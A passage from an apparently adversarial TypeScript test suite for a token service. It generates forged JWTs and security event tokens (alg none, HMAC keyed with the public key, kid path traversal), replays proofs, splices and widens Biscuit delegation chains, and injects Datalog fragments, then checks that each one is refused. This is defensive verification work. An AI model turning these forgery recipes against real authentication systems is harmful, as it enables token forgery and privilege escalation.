        'payload altered, signature kept': /^SecurityEventError:invalid_key$/, 'unknown kid': /^SecurityEventError:invalid_key$/,
        'HMAC with the public key': /^SecurityEventError:invalid_request$/,
      };
      const ed = jwks.keys.find((k) => k.kid === signers.EdDSA.kid)!;
      const all = variants(fc.tuple(fc.nat({ max: 1000 }), mutation), 120, seedOf(C.securityEvent));
      await pool(all, 8, async ([i, m]) => {
        let set: string;
        if (m.kind === 'foreign key with our kid') set = await signSet(setClaims(i), {}, m.alg, foreign[m.alg].privateKey);
        else if (m.kind === 'alg none') set = `${b64({ alg: m.alg, typ: 'secevent+jwt', kid: signers.EdDSA.kid })}.${b64(setClaims(i))}.${m.sig}`;
        else if (m.kind === 'typ of another token') set = await signSet(setClaims(i), { typ: m.typ === 'absent' ? undefined : m.typ });
        else if (m.kind === 'another issuer') set = await signSet(setClaims(i, { iss: m.iss }));
        else if (m.kind === 'another audience') set = await signSet(setClaims(i, { aud: m.aud }));
        else if (m.kind === 'events malformed') set = await signSet(setClaims(i, { events: m.events }));
        else if (m.kind === 'sub_id malformed') set = await signSet(setClaims(i, { sub_id: m.sub_id }));
        else if (m.kind === 'jti or iat malformed') set = await signSet(setClaims(i, { jti: m.jti, iat: m.iat }));
        else if (m.kind === 'payload altered, signature kept') {
          const [h, , sig] = (await signSet(setClaims(i, { sub_id: { format: 'opaque', id: 'harmless' } }))).split('.');
          set = `${h}.${b64(setClaims(m.victim))}.${sig}`;
        } else if (m.kind === 'unknown kid') set = await signSet(setClaims(i), { kid: `${m.kid}-unknown` });
        else {
          const head = b64({ alg: m.alg, typ: 'secevent+jwt', kid: signers.EdDSA.kid });
          const body = b64(setClaims(i));
          const mac = createHmac(`sha${m.alg.slice(2)}`, Buffer.from(JSON.stringify(ed))).update(`${head}.${body}`).digest('base64url');
          set = `${head}.${body}.${mac}`;
        }
        ledger.attack(C.securityEvent, 'acceptSecurityEvent', JSON.stringify([i, m]), await setOutcome(set), expected[m.kind]!);
      });
      // None of them took effect: the tokens they named still verify. A SET where a token goes is refused.
      for (const [i, token] of victims.entries()) {
        const o = await throughGuard(v, bearer(token));
        ledger.control(C.securityEvent, `victim token ${i} still accepted`, !o.refused, o.refused ? o.by : '');
        ledger.attack(C.typ, 'verifier', `SET as an access token ${i}`, await throughGuard(v, bearer(await signSet(setClaims(i, { sub: agentId('caller'), exp: now() + 60 })))), INVALID_TOKEN);
      }
      // Controls: genuine events, both algorithms, accepted; each then refuses the token it names.
      for (let i = 0; i < 20; i++) {
        const token = await sign(accessClaims());
        const set = await signSet(setClaims(0, { sub_id: { format: 'jwt_id', iss: ts.issuer, jti: decodeJwt(token).jti } }), {}, i % 2 ? 'ES256' : 'EdDSA');
        const o = await setOutcome(set);
        ledger.control(C.securityEvent, `genuine event ${i}`, !o.refused, o.refused ? o.by : o.detail);
        const after = await throughGuard(v, bearer(token));
        ledger.control(C.securityEvent, `genuine event ${i} revokes its token`, after.refused, after.refused ? '' : 'still accepted');
      }
      noFailures(C.securityEvent);
    });

    it(`${C.bound} and ${C.replay} at the verifier`, async () => {
      const keys = await Promise.all(Array.from({ length: 6 }, (_, i) => newAgentKey(i % 2 ? 'ES256' : 'EdDSA')));
      const holder = keys[0]!;
      const jkt = await calculateJwkThumbprint(holder.jwk);
      const proof = (k: AgentKey, claims: Record<string, unknown>, jwk: JWK = k.jwk) =>
        new SignJWT({ htm: 'GET', htu: `${API}/read`, iat: now(), jti: randomUUID(), ...claims }).setProtectedHeader({ alg: k.alg, typ: 'dpop+jwt', jwk: publicOf(jwk) }).sign(k.privateKey);
      const arb = fc.record({
        kind: fc.constantFrom('proof by another key', 'proof naming the bound key, signed by another', 'bound token as a bearer token', 'bound token as a bearer token with a proof', 'no proof', 'WPT by another key', 'WIT key swapped in the WPT header'),
        other: fc.integer({ min: 1, max: 5 }),
        method: fc.constantFrom('GET', 'POST', 'DELETE'),
        path: fc.stringMatching(/^\/[a-z]{1,8}$/),
      });
      const all = variants(arb, 70, seedOf(C.bound));
      await pool(all, 8, async (v) => {
        const other = keys[v.other]!;
        const token = await sign(accessClaims({ cnf: { jkt } }));
        const url = `${API}${v.path}`;
        const base = { htm: v.method, htu: url, ath: tokenHash(token) };
        let headers: Record<string, string>;
        if (v.kind === 'proof by another key') headers = { authorization: `DPoP ${token}`, dpop: await proof(other, base) };
        else if (v.kind === 'proof naming the bound key, signed by another') headers = { authorization: `DPoP ${token}`, dpop: await proof(other.alg === holder.alg ? other : keys[2]!, base, holder.jwk) };
        else if (v.kind === 'bound token as a bearer token') headers = { authorization: `Bearer ${token}` };
        else if (v.kind === 'bound token as a bearer token with a proof') headers = { authorization: `Bearer ${token}`, dpop: await proof(holder, base) };
        else if (v.kind === 'no proof') headers = { authorization: `DPoP ${token}` };
        else {
          const wit = await sign(accessClaims({ aud: undefined, cnf: { jwk: holder.jwk } }), { typ: 'wit+jwt' });
          const wptToken = v.kind === 'WPT by another key' ? await wpt(wit, other, url) : await wpt(wit, { ...other, alg: holder.alg, privateKey: other.alg === holder.alg ? other.privateKey : keys[2]!.privateKey }, url);
          headers = { 'workload-identity-token': wit, 'workload-proof-token': wptToken };
        }
        ledger.attack(C.bound, 'verifier', JSON.stringify(v), await throughGuard(verifier, { method: v.method, url, headers }), /^(invalid_token|invalid_dpop_proof) \(401\)$/);
      });
      // Replays: each proof is accepted once (a control) and refused the second time (an attack).
      const replays = variants(fc.record({ kind: fc.constantFrom('DPoP proof', 'WPT'), method: fc.constantFrom('GET', 'POST', 'PUT'), path: fc.stringMatching(/^\/[a-z0-9]{1,10}$/), key: fc.nat({ max: 5 }) }), 60, seedOf('verifier replays'));
      await pool(replays, 8, async (v) => {
        const k = keys[v.key]!;
        const url = `${API}${v.path}`;
        let headers: Record<string, string>;
        if (v.kind === 'DPoP proof') {
          const token = await sign(accessClaims({ cnf: { jkt: await calculateJwkThumbprint(k.jwk) } }));
          headers = { authorization: `DPoP ${token}`, dpop: await proof(k, { htm: v.method, htu: url, ath: tokenHash(token) }) };
        } else {
          const wit = await sign(accessClaims({ aud: undefined, cnf: { jwk: k.jwk } }), { typ: 'wit+jwt' });
          headers = { 'workload-identity-token': wit, 'workload-proof-token': await wpt(wit, k, url) };
        }
        const first = await throughGuard(verifier, { method: v.method, url, headers });
        ledger.control(C.replay, `first use ${JSON.stringify(v)}`, !first.refused, first.refused ? `${first.by} ${first.detail}` : first.detail);
        ledger.attack(C.replay, 'verifier', JSON.stringify(v), await throughGuard(verifier, { method: v.method, url, headers }), /^(invalid_token|invalid_dpop_proof) \(401\)$/);
      });
      // Controls: proofs by the bound key.
      for (let i = 0; i < 30; i++) {
        const token = await sign(accessClaims({ cnf: { jkt } }));
        const url = `${API}/ok${i}`;
        const o = await throughGuard(verifier, { method: 'GET', url, headers: { authorization: `DPoP ${token}`, dpop: await proof(holder, { htu: url, ath: tokenHash(token) }) } });
        ledger.control(C.bound, `bound key proof ${i}`, !o.refused, o.refused ? `${o.by} ${o.detail}` : '');
      }
      noFailures(C.bound, C.replay);
    });

    it('over HTTP: a koa and an Express app behind the middleware refuse with status, RFC 6750 error and WWW-Authenticate', async () => {
      const at = await sign(accessClaims());
      const cases: [string, string, Record<string, string>][] = [];
      const add = (cat: string, what: string, headers: Record<string, string>) => cases.push([cat, what, headers]);
      add(C.audience, 'koa: aud of another resource', { authorization: `Bearer ${await sign(accessClaims({ aud: OTHER }))}` });
      add(C.issuer, 'koa: another issuer', { authorization: `Bearer ${await sign(accessClaims({ iss: 'https://evil.example' }))}` });
      add(C.time, 'koa: expired', { authorization: `Bearer ${await sign(accessClaims({ exp: now() - 3600 }))}` });
      add(C.none, 'koa: alg none', { authorization: `Bearer ${b64({ alg: 'none', typ: 'at+jwt' })}.${b64(accessClaims())}.` });
      add(C.forged, 'koa: foreign key', { authorization: `Bearer ${await sign(accessClaims(), {}, 'EdDSA', foreign.EdDSA.privateKey)}` });
      add(C.typ, 'koa: Txn-Token as bearer', { authorization: `Bearer ${await sign(accessClaims({ aud: API, txn: 't' }), { typ: 'txntoken+jwt' })}` });
      add(C.typ, 'koa: WIT as bearer', { authorization: `Bearer ${await sign(accessClaims({ aud: API }), { typ: 'wit+jwt' })}` });
      add(C.kid, 'koa: unknown kid', { authorization: `Bearer ${await sign(accessClaims(), { kid: 'nope' }, 'EdDSA', foreign.EdDSA.privateKey)}` });
      add(C.kidInjection, 'koa: kid traversal', { authorization: `Bearer ${await sign(accessClaims(), { kid: '../../../dev/null' }, 'EdDSA', foreign.EdDSA.privateKey)}` });
      add(C.bound, 'koa: bound token without proof', { authorization: `DPoP ${await sign(accessClaims({ cnf: { jkt: 'x'.repeat(43) } }))}` });
      let n = 0;
      for (const app of [koaApp, expressApp]) {
        const path = app === koaApp ? '/read' : '/';
        for (const [cat, what, headers] of cases) {
          const res = await fetch(`${app.url}${path}`, { headers });
          const body = await res.json() as unknown;
          ledger.attack(cat, app === koaApp ? 'koa middleware' : 'Express middleware', `${what} (${app === koaApp ? 'koa' : 'express'})`, httpOutcome({ status: res.status, body, headers: res.headers }, { challenge: true }), /^(invalid_token|invalid_dpop_proof) \(401\)$/);
        }
        for (let i = 0; i < 10; i++) {
          const res = await fetch(`${app.url}${path}?i=${i}`, { headers: { authorization: `Bearer ${i ? await sign(accessClaims({ scope: 's:a s:c' }), {}, i % 2 ? 'ES256' : 'EdDSA') : at}` } });
          ledger.control(C.audience, `http control ${n++}`, res.status === 200, String(res.status));
        }
      }
      noFailuresIn('');
    });
  });

  // ---------------------------------------------------------------------------------------------------
  describe('the Biscuit verifier (verifyBiscuit), with chains built by hand with the raw Biscuit API', () => {
    const id = (n: string) => `spiffe://agent-sts.test/b/${n}`;
    const TOOLS = ['search', 'read', 'write', 'pay', 'admin'];
    const AUDS = ['https://tools.example', 'https://pay.example', 'https://mail.example'];
    let root: Awaited<ReturnType<typeof rootKey>>;
    let k: JWK[];
    const maxDepth = 4;
    const expires0 = () => new Date((now() + 3600) * 1000);
    // The default facts and iterations limits; the time limit raised from 100 ms to 1 s, since an honest
    // verification on a loaded 2-core machine occasionally takes more than 100 ms (see the README).
    const limits = { ...DEFAULT_RUN_LIMITS, max_time_micro: 1_000_000 };
    const verify = (token: string, req: { tools?: string[]; spend?: number; resource?: string } = {}, revoked?: Set<string>) =>
      verifyBiscuit(token, { rootKeys: biscuitRootKeys(root.jwks), request: { resource: AUDS[0]!, tools: [], ...req, now: new Date() }, limits, ...(revoked ? { revoked } : {}) });

    beforeAll(async () => {
      root = await rootKey(11);
      k = await Promise.all(Array.from({ length: 7 }, (_, i) => privateJwk(i % 3 === 1 ? 'ES256' : 'EdDSA')));
    });

    /** An honest chain of limits: each hop a subset / lower / earlier than the one before. */
    const chainArb = fc.record({
      hops: fc.array(fc.record({ dropTools: fc.nat({ max: 31 }), dropAuds: fc.nat({ max: 3 }), budgetCut: fc.nat({ max: 3000 }), expiryCut: fc.nat({ max: 600 }), context: fc.string({ minLength: 1, maxLength: 24 }).filter((c) => c.trim() !== '') }), { minLength: 0, maxLength: maxDepth }),
      budget: fc.integer({ min: 100, max: 100_000 }),
    });
    type ChainSpec = typeof chainArb extends fc.Arbitrary<infer T> ? T : never;
    interface Built { token: string; tokens: string[]; hops: HopFacts[]; rights: string[]; audiences: string[]; budget: number; expires: Date }
    async function build(spec: ChainSpec, depth = maxDepth, upTo = spec.hops.length): Promise<Built> {
      const exp0 = expires0();
      let token = await mint(root, authority(id('a0'), k[0], { rights: TOOLS, audiences: AUDS, budget: spec.budget, maxDepth: depth, expires: exp0 }));
      const tokens = [token];
      let rights = TOOLS;
      let audiences = AUDS;
      let budget = spec.budget;
      let expires = exp0;
      const hops: HopFacts[] = [];
      for (let i = 1; i <= upTo; i++) {
        const h = spec.hops[i - 1]!;
        const r = rights.filter((_, j) => !(h.dropTools & (1 << j)));
        rights = r.length ? r : rights.slice(0, 1);
        const a = audiences.filter((_, j) => !(h.dropAuds & (1 << j)) || j === 0);
        audiences = a;
        budget = Math.max(0, budget - h.budgetCut);
        expires = new Date(expires.getTime() - h.expiryCut * 1000);
        const hop: HopFacts = { index: i, delegator: id(`a${i - 1}`), delegate: id(`a${i}`), delegateKey: biscuitKeyText(k[i]!), context: h.context, rights, audiences, budget, expires };
        hops.push(hop);
        token = await rawHop(token, root, hop, k[i - 1]);
        tokens.push(token);
      }
      return { token, tokens, hops, rights, audiences, budget, expires };
    }

    it('controls: honest chains of 0 to 4 hops allow exactly what the last hop holds', async () => {
      const specs = variants(chainArb, 260, seedOf('biscuit controls'));
      for (const [n, spec] of specs.entries()) {
        const c = await build(spec);
        const tools = c.rights.slice(0, 1 + (n % c.rights.length));
        const o = await biscuitOutcome(() => verify(c.token, { tools, spend: c.budget - (n % 2), resource: c.audiences[n % c.audiences.length]! }));
        ledger.control(C.scope, `chain ${JSON.stringify(spec)}`, !o.refused, o.refused ? `${o.by} ${o.detail}` : o.detail);
      }
      noFailures(C.scope);
    });

    const widening = (category: string, limit: 'tools' | 'audiences' | 'budget' | 'expires', n: number) => async () => {
      const arb = fc.tuple(chainArb.filter((s) => s.hops.length >= 1), fc.nat(), fc.integer({ min: 1, max: 1_000_000 }), fc.nat({ max: 2 }));
      const all = variants(arb, n, seedOf(category));
      for (const [spec, at, amount, extra] of all) {
        const j = 1 + (at % spec.hops.length);
        const before = await build(spec, maxDepth, j - 1);
        const prev = { rights: before.rights, audiences: before.audiences, budget: before.budget, expires: before.expires };
        const h = spec.hops[j - 1]!;
        const hop: HopFacts = { index: j, delegator: id(`a${j - 1}`), delegate: id(`a${j}`), delegateKey: biscuitKeyText(k[j]!), context: h.context, ...prev };
        if (limit === 'tools') hop.rights = [...prev.rights, ['root', 'sudo', `${prev.rights[0]}!`][extra]!, ...TOOLS.filter((t) => !prev.rights.includes(t)).slice(0, amount % 3)];
        if (limit === 'audiences') {
          const wider = [`https://evil-${amount}.example`, `${prev.audiences[0]}/`, ...AUDS.filter((a) => !prev.audiences.includes(a))];
          hop.audiences = [...prev.audiences, wider[extra % wider.length]!];
        }
        if (limit === 'budget') hop.budget = prev.budget + amount;
        if (limit === 'expires') hop.expires = new Date(prev.expires.getTime() + (amount % 86_400 + 1) * 1000);
        const forged = await rawHop(before.token, root, hop, k[j - 1]);
        ledger.attack(category, 'verifyBiscuit', JSON.stringify([spec, j, limit, hop.rights, hop.audiences, hop.budget, hop.expires]), await biscuitOutcome(() => verify(forged, { tools: [hop.rights[0]!] })), BISCUIT('widened'));
        // The same widening through the library's own delegation is refused before anything is signed.
        if (extra === 0) {
          const req = { delegate: id('x'), context: 'widen', ...(limit === 'tools' ? { tools: hop.rights } : limit === 'audiences' ? { audience: hop.audiences } : limit === 'budget' ? { budget: hop.budget } : { expires: hop.expires }) };
          ledger.attack(category, 'delegate()', JSON.stringify([spec, j, limit, 'delegate()', hop.rights, hop.audiences, hop.budget]), await biscuitOutcome(() => delegate(before.token, req, k[j - 1]!, root.jwks)), BISCUIT('widened', 'request'));
        }
      }
      noFailures(category);
    };
    it(`${C.scope} (Biscuit tools)`, widening(C.scope, 'tools', 40));
    it(`${C.audienceWidening} (Biscuit)`, widening(C.audienceWidening, 'audiences', 30));
    it(C.budget, widening(C.budget, 'budget', 40));
    it(C.expiry, widening(C.expiry, 'expires', 30));

    it(`${C.depth} (Biscuit max_depth)`, async () => {
      const arb = fc.tuple(fc.integer({ min: 0, max: 3 }), fc.integer({ min: 1, max: 2 }), chainArb.filter((s) => s.hops.length === maxDepth));
      const all = variants(arb, 30, seedOf(C.depth), ([d, e, s]) => JSON.stringify([d, e, s.hops.map((h) => h.context)]));
      for (const [depth, extra, spec] of all) {
        const c = await build(spec, depth, Math.min(maxDepth, depth + extra));
        ledger.attack(C.depth, 'verifyBiscuit', JSON.stringify([depth, extra, spec]), await biscuitOutcome(() => verify(c.token)), BISCUIT('depth'));
        const atLimit = await build(spec, depth, depth);
        const o = await biscuitOutcome(() => verify(atLimit.token));
        ledger.control(C.depth, `at the limit ${JSON.stringify([depth, extra, spec])}`, !o.refused, o.refused ? o.by : '');
      }
      noFailures(C.depth);
    });

    it(`${C.context} (Biscuit)`, async () => {
      const blank = fc.array(fc.constantFrom(' ', '\t', '\n', '\r', '\u000b', '\u000c', '\u00a0', '\u1680', '\u2000', '\u2003', '\u2028', '\u2029', '\u202f', '\u3000', '\ufeff'), { minLength: 0, maxLength: 6 }).map((a) => a.join(''));
      const all = variants(fc.tuple(blank, fc.integer({ min: 1, max: 3 }), chainArb.filter((s) => s.hops.length >= 3)), 40, seedOf(C.context), ([b, j]) => JSON.stringify([b, j]));
      for (const [ctx, j, spec] of all) {
        const before = await build(spec, maxDepth, j - 1);
        const hop: HopFacts = { index: j, delegator: id(`a${j - 1}`), delegate: id(`a${j}`), delegateKey: biscuitKeyText(k[j]!), context: ctx, rights: before.rights, audiences: before.audiences, budget: before.budget, expires: before.expires };
        ledger.attack(C.context, 'verifyBiscuit', JSON.stringify([ctx, j, 'raw']), await biscuitOutcome(async () => verify(await rawHop(before.token, root, hop, k[j - 1]))), BISCUIT('context'));
        if (j === 1) ledger.attack(C.context, 'delegate()', JSON.stringify([ctx, j, 'delegate()']), await biscuitOutcome(() => delegate(before.token, { delegate: id('x'), context: ctx }, k[j - 1]!, root.jwks)), BISCUIT('context'));
      }
      noFailures(C.context);
    });

    it(`${C.delegator} (Biscuit)`, async () => {
      const who = fc.oneof(
        fc.constantFrom('holder', 'self', 'next', 'case', 'trailing space', 'trailing slash', 'prefix', 'empty'),
        fc.stringMatching(/^[a-z]{1,10}$/).map((s) => `random:${s}`),
      );
      const all = variants(fc.tuple(who, fc.integer({ min: 1, max: 3 }), chainArb.filter((s) => s.hops.length >= 3)), 40, seedOf(C.delegator), ([w, j]) => JSON.stringify([w, j]));
      for (const [w, j, spec] of all) {
        const prev = id(`a${j - 1}`);
        const delegator = w === 'holder' ? (j === 1 ? id('a9') : id('a0')) : w === 'self' ? id(`a${j}`) : w === 'next' ? id(`a${j + 1}`) : w === 'case' ? prev.toUpperCase()
          : w === 'trailing space' ? `${prev} ` : w === 'trailing slash' ? `${prev}/` : w === 'prefix' ? prev.slice(0, -1) : w === 'empty' ? '' : id(w.slice(7));
        const before = await build(spec, maxDepth, j - 1);
        const hop: HopFacts = { index: j, delegator, delegate: id(`a${j}`), delegateKey: biscuitKeyText(k[j]!), context: 'ctx', rights: before.rights, audiences: before.audiences, budget: before.budget, expires: before.expires };
        ledger.attack(C.delegator, 'verifyBiscuit', JSON.stringify([w, j]), await biscuitOutcome(async () => verify(await rawHop(before.token, root, hop, k[j - 1]))), BISCUIT('delegator', 'malformed'));
      }
      noFailures(C.delegator);
    });

    it(C.signer, async () => {
      const mallory = await privateJwk();
      const malloryEc = await privateJwk('ES256');
      const other = await rootKey(11);
      const signerArb = fc.constantFrom('stranger Ed25519', 'stranger P-256', 'the delegate itself', 'a later delegate', 'an earlier delegate', 'another root key', 'unsigned block', 'unsigned check-only block');
      const all = variants(fc.tuple(signerArb, fc.integer({ min: 1, max: 3 }), chainArb.filter((s) => s.hops.length >= 3)), 24, seedOf(C.signer), ([sg, j]) => JSON.stringify([sg, j]));
      for (const [sg, j, spec] of all) {
        const before = await build(spec, maxDepth, j - 1);
        const hop: HopFacts = { index: j, delegator: id(`a${j - 1}`), delegate: id(`a${j}`), delegateKey: biscuitKeyText(k[j]!), context: 'ctx', rights: before.rights, audiences: before.audiences, budget: before.budget, expires: before.expires };
        const key = sg === 'stranger Ed25519' ? mallory : sg === 'stranger P-256' ? malloryEc : sg === 'the delegate itself' ? k[j] : sg === 'a later delegate' ? k[j + 1] : sg === 'an earlier delegate' ? (j === 1 ? k[5] : k[j - 2]) : sg === 'another root key' ? other.privateJwk : undefined;
        const forged = sg === 'unsigned check-only block' ? rawAppend(before.token, root, 'check if time($t);', {}) : rawHop(before.token, root, hop, key);
        ledger.attack(C.signer, 'verifyBiscuit', JSON.stringify([sg, j]), await biscuitOutcome(async () => verify(await forged)), BISCUIT('signer'));
      }
      noFailures(C.signer);
    });

    it(C.blocks, async () => {
      const spec = variants(chainArb.filter((s) => s.hops.length === 4), 2, seedOf(C.blocks));
      const a = await build(spec[0]!);
      const b = await build(spec[1]!);
      const perms = (xs: number[]): number[][] => (xs.length <= 1 ? [xs] : xs.flatMap((x, i) => perms([...xs.slice(0, i), ...xs.slice(i + 1)]).map((p) => [x, ...p])));
      const edits: [string, (bs: Buffer[]) => Buffer[]][] = [];
      for (const p of perms([0, 1, 2, 3]).filter((p) => p.join() !== '0,1,2,3')) edits.push([`reordered ${p.join('')}`, (bs) => p.map((i) => bs[i]!)]);
      for (let mask = 1; mask < 16; mask++) edits.push([`dropped mask ${mask}`, (bs) => bs.filter((_, i) => !(mask & (1 << i)))]);
      for (let i = 0; i < 4; i++) edits.push([`block ${i + 1} from another chain`, (bs) => bs.map((x, j) => (j === i ? editBlocksOf(b.token)[j]! : x))]);
      for (let i = 0; i < 4; i++) edits.push([`block ${i + 1} duplicated`, (bs) => [...bs.slice(0, i + 1), bs[i]!, ...bs.slice(i + 1)]]);
      function editBlocksOf(token: string): Buffer[] {
        let out: Buffer[] = [];
        editBlocks(token, (bs) => (out = bs));
        return out;
      }
      for (const [what, edit] of edits) {
        ledger.attack(C.blocks, 'verifyBiscuit', what, await biscuitOutcome(() => verify(editBlocks(a.token, edit))), BISCUIT('signature', 'signer', 'malformed', 'delegator', 'depth'));
      }
      // Delegation blocks of a chain appended to a token of another root.
      for (const [n, rootId] of [[1, 11], [2, 11], [1, 12], [3, 12]] as const) {
        const otherRoot = await rootKey(rootId);
        let t = await mint(otherRoot, authority(id('a0'), k[0], { rights: TOOLS, audiences: AUDS, budget: spec[0]!.budget, maxDepth, expires: expires0() }));
        for (let i = 1; i <= n; i++) t = await rawHop(t, otherRoot, a.hops[i - 1]!, k[i - 1]);
        ledger.attack(C.blocks, 'verifyBiscuit', `chain of ${n} under another root key with id ${rootId}`, await biscuitOutcome(() => verify(t)), BISCUIT('signature', 'unknown_root'));
      }
      // The authority block of one chain with the delegation blocks of another.
      ledger.attack(C.blocks, 'verifyBiscuit', 'authority swapped', await biscuitOutcome(() => verify(editBlocks(b.token, () => editBlocksOf(a.token)))), BISCUIT('signature', 'signer', 'malformed'));
      const ok = await biscuitOutcome(() => verify(a.token));
      ledger.control(C.blocks, 'the chain untouched', !ok.refused, ok.refused ? ok.by : '');
      noFailures(C.blocks);
    });

    it(`${C.revoked} (Biscuit)`, async () => {
      const all = variants(fc.tuple(chainArb.filter((s) => s.hops.length >= 1), fc.nat(), fc.array(fc.stringMatching(/^[0-9a-f]{128}$/), { maxLength: 3 })), 30, seedOf(C.revoked), ([s, at]) => JSON.stringify([s, at]));
      for (const [spec, at, noise] of all) {
        const c = await build(spec);
        const chain = await verify(c.token);
        const i = at % chain.revocationIds.length;
        const revoked = new Set([...noise, chain.revocationIds[i]!]);
        ledger.attack(C.revoked, 'verifyBiscuit', JSON.stringify([spec, i]), await biscuitOutcome(() => verify(c.token, {}, revoked)), BISCUIT('revoked'));
        const o = await biscuitOutcome(() => verify(c.token, {}, new Set(noise)));
        ledger.control(C.revoked, `unrelated ids ${JSON.stringify([spec, noise])}`, !o.refused, o.refused ? `${o.by}: ${o.detail}` : '');
      }
      noFailures(C.revoked);
    });

    it(C.datalog, async () => {
      const FRAGMENTS = ['"', "'", ')', '(', ';', ' ', ',', 'allow if true', 'check if false', 'reject if true', 'right("admin")', 'tool("admin")', 'rights({"admin"})', '//', '/*', '*/', '\n',
        'trusting authority', 'trusting previous', '$t', '{x}', '{tools}', 'hop(2, "a", "b", "c")', 'budget(99999999)', '\\', '\\"', 'admin', 'é', '🙂', 'time(2099-01-01T00:00:00Z)', 'or true', '&&', '||', '!'];
      const injected = fc.array(fc.constantFrom(...FRAGMENTS), { minLength: 1, maxLength: 8 }).map((a) => a.join(''));
      const arb = fc.record({ delegate: injected, context: injected.filter((c) => c.trim() !== ''), tool: injected, escalate: fc.constantFrom('tool admin', 'injected tool', 'other resource', 'over budget', 'injected resource') });
      const all = variants(arb, 60, seedOf(C.datalog));
      const base = await mint(root, authority(id('a0'), k[0], { rights: ['read', 'search'], audiences: [AUDS[0]!], budget: 100, maxDepth, expires: expires0() }));
      for (const v of all) {
        const t1 = await delegate(base, { delegate: v.delegate, delegateKey: publicOf(k[1]!), context: v.context, tools: ['read'] }, k[0]!, root.jwks);
        const req = v.escalate === 'tool admin' ? { tools: ['admin'] } : v.escalate === 'injected tool' ? { tools: [v.tool] } : v.escalate === 'other resource' ? { tools: ['read'], resource: AUDS[1]! }
          : v.escalate === 'over budget' ? { tools: ['read'], spend: 101 } : { tools: ['read'], resource: `${AUDS[0]}"); resource("${AUDS[1]}` };
        ledger.attack(C.datalog, 'verifyBiscuit', JSON.stringify(v), await biscuitOutcome(() => verify(t1, req)), BISCUIT('request'));
        // Control: the injected strings are data, and the honest request passes.
        const chain = await verify(t1, { tools: ['read'], spend: 100 }).catch((e: unknown) => e);
        const ok = !(chain instanceof Error) && (chain as { hops: HopFacts[] }).hops[0]?.delegate === v.delegate && (chain as { hops: HopFacts[] }).hops[0]?.context === v.context;
        ledger.control(C.datalog, `honest request ${JSON.stringify(v)}`, ok, chain instanceof Error ? chain.message : 'facts differ');
      }
      noFailures(C.datalog);
    });
  });

  // ---------------------------------------------------------------------------------------------------
  describe('the token endpoint and POST /wit, over HTTP', () => {
    let frontend: SecretAgent;
    let orch: SecretAgent;
    let spec: SecretAgent;
    let tool: SecretAgent;
    let shallow: SecretAgent;
    let victim: SecretAgent;
    let orchKey: JWK;
    const PK = agentId('adv-pkjwt');
    const W = agentId('adv-wit');
    const WV = agentId('adv-wit-victim');
    let pkKey: AgentKey;
    let witKey: AgentKey;
    let wit: string;
    const GRANTS = ['client_credentials', TOKEN_EXCHANGE];
    const cc = async (a: SecretAgent, form: Record<string, string> = {}) => {
      const res = await a.token({ grant_type: 'client_credentials', ...form });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      return res.body.access_token as string;
    };
    const ex = async (a: SecretAgent, form: Record<string, string>) => {
      const res = await exchange(a, form);
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      return res.body.access_token as string;
    };
    const oauth = (res: HttpResult) => httpOutcome(res, { oauth: true });
    const okControl = (category: string, variant: string, res: HttpResult) => ledger.control(category, variant, res.status === 200, `${res.status} ${JSON.stringify(res.body).slice(0, 200)}`);

    beforeAll(async () => {
      orchKey = await privateJwk();
      frontend = await registerSecretAgent(ts, { id: agentId('adv-frontend'), scopes: SCOPES, audiences: [ORCH] });
      orch = await registerSecretAgent(ts, {
        id: agentId('adv-orch'), grant_types: GRANTS, scopes: ['s:a', 's:b', 's:c'], audiences: [SPEC, OTHER], jwks: { keys: [{ ...publicOf(orchKey), alg: 'EdDSA' }] },
        token_exchange: { may_act_for_others: true, max_budget: 5000 }, max_delegation_depth: 5,
      });
      spec = await registerSecretAgent(ts, { id: agentId('adv-spec'), grant_types: GRANTS, scopes: ['s:a', 's:b'], audiences: [TOOL], token_exchange: { may_act_for_others: true }, max_delegation_depth: 5 });
      tool = await registerSecretAgent(ts, { id: agentId('adv-tool'), grant_types: GRANTS, scopes: ['s:a'], audiences: [API], token_exchange: { may_act_for_others: true }, max_delegation_depth: 5 });
      shallow = await registerSecretAgent(ts, { id: agentId('adv-shallow'), grant_types: GRANTS, scopes: ['s:a'], audiences: [API], max_delegation_depth: 1, token_exchange: { may_act_for_others: true } });
      victim = await registerSecretAgent(ts, { id: agentId('adv-victim'), scopes: ['s:a'], audiences: [ORCH] });
      pkKey = await newAgentKey();
      expect((await ts.admin('POST', '/admin/agents', { id: PK, token_endpoint_auth_method: 'private_key_jwt', jwks: { keys: [{ ...pkKey.jwk, kid: 'pk-1' }] }, scopes: ['s:a'], audiences: [API] })).status).toBe(201);
      for (const id of [W, WV]) expect((await ts.admin('POST', '/admin/agents', { id, token_endpoint_auth_method: 'wit', scopes: ['s:a'], audiences: [API], attestors: [{ type: 'join_token' }] })).status).toBe(201);
      witKey = await newAgentKey();
      wit = await witByJoinToken(ts, W, witKey);
    });

    it(`${C.scope}, ${C.audienceWidening} and ${C.depth} in token exchange`, async () => {
      const t0 = await cc(frontend);
      const t1 = await ex(orch, { subject_token: t0, subject_token_type: AT, scope: 's:a' });
      const t2 = await ex(spec, { subject_token: t1, subject_token_type: AT, scope: 's:a' });
      const hops = [
        { hop: 1, agent: orch, subject: t0, held: ['s:a', 's:b', 's:c'] },
        { hop: 2, agent: spec, subject: t1, held: ['s:a'] },
        { hop: 3, agent: tool, subject: t2, held: ['s:a'] },
      ];
      const arb = fc.record({ hop: fc.integer({ min: 0, max: 2 }), keep: fc.nat({ max: 7 }), extra: fc.oneof(fc.constantFrom('s:b', 's:c', 's:d', 'admin', '*', 's:a:write', 'S:A', 's:a '), fc.stringMatching(/^[a-z][a-z:]{0,11}$/)) })
        .filter((v) => !hops[v.hop]!.held.includes(v.extra) || (v.hop > 0 && v.extra !== 's:a'));
      const attempts = variants(arb, 36, seedOf('server scope widening')).filter((v) => !hops[v.hop]!.held.includes(v.extra.trim()) || v.extra !== v.extra.trim());
      await pool(attempts, 4, async (v) => {
        const h = hops[v.hop]!;
        const kept = h.held.filter((_, i) => v.keep & (1 << i));
        const scope = [...kept, v.extra].join(' ');
        ledger.attack(C.scope, 'token endpoint', JSON.stringify({ ...v, scope }), oauth(await exchange(h.agent, { subject_token: h.subject, subject_token_type: AT, scope })), OAUTH('invalid_scope'));
      });
      // Controls: each hop narrowing, with and without an explicit scope.
      for (const [i, h] of hops.entries()) {
        const subsets = h.held.length === 3 ? ['s:a', 's:b', 's:c', 's:a s:b', 's:b s:c', 's:a s:c', 's:a s:b s:c', ''] : ['s:a', ''];
